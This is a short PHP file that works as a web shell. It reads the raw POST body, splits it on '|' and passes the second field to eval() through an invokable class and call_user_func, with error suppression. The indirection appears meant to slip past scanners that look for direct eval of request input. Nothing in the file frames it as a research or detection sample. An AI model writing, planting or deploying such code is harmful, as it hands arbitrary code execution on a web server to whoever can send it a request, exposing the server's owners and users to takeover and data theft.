<?php
$post = file_get_contents('php://input');
$parts = explode('|', $post);
$given = $parts[1];
class C { public function __invoke($code) { eval($code . ''); } }
@call_user_func(new C(), $given);
